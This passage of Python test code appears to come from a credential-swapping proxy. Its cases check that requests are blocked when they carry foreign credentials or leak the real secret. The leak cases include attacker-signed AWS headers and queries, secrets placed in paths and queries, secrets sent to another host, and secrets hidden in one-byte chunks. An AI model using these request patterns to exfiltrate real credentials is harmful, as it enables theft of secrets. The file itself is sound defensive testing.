    *[Case(f"T01 in {name}", get("/x", AUTH, *fields, method="POST", body=body), "block", code="foreign_credential")
      for name, (body, *fields) in FOREIGN_BODIES.items()],
    *[Case(f"{name} is no credential", get("/x", AUTH, *fields, method="POST", body=body), "swap") for name, (body, *fields) in {
        "a form's text": ("text=token%3Dx&page_token=y", FORM_TYPE), "a member further inside": ('{"a": {"token": "x"}}', JSON_TYPE),
        "the text of a member": ('{"text": "token", "max_tokens": 1}', JSON_TYPE)}.items()],
    Case("X01 a request that the attacker's keys have signed", get("/x", "Authorization: AWS4-HMAC-SHA256 Credential=AKIAX/20260101/"
         "us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00"), "block", code="foreign_credential"),
    Case("X02 a query that the attacker's keys have signed", get("/x?X-Amz-Credential=AKIAX&X-Amz-Signature=00", AUTH), "block",
         code="foreign_credential"),
    Case("S16 the real value in its place", get("/x", "Authorization: Bearer {R}"), "block", code="secret_in_request"),
    Case("S16 the real value in a path", get("/x/{R}", AUTH), "block", code="secret_in_request"),
    Case("S16 the real value in a query", get("/x?q={R}", AUTH), "block", code="secret_in_request"),
    Case("S16 the real value to another host", get("/x/{R}", host=B), "block", host=B, tls=False, code="secret_in_request",
         ways=ALL_WAYS),
    Case("S16 the real value to another host, looked into", get("/x?{R}", host=B_SEEN), "block", host=B_SEEN, code="secret_in_request"),
    Case("S01 in the query where it is declared", get("/x?key={S}&a=b", host="query.example.com"), "swap", host="query.example.com",
         credential="QUERY_KEY"),
    Case("S02 in another parameter", get("/x?other={S}", host="query.example.com"), "block", host="query.example.com",
         credential="QUERY_KEY", code=UNDECLARED),
    Case("S01 in the path where it is declared", get("/bot/{S}/send", host="path.example.com"), "swap", host="path.example.com",
         credential="PATH_KEY"),
    Case("S18 what looks like a stub is none", get("/x", AUTH, "X-Note: ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"), "swap"),
])
add_cases(Bodies, [
    *HIDDEN, *UNSEEN,
    body_case("S06 in chunks of one byte", lambda s: chunked(TEXT + s), fields=("Transfer-Encoding: chunked",)),
])

del BoundaryTest  # or it would run by itself
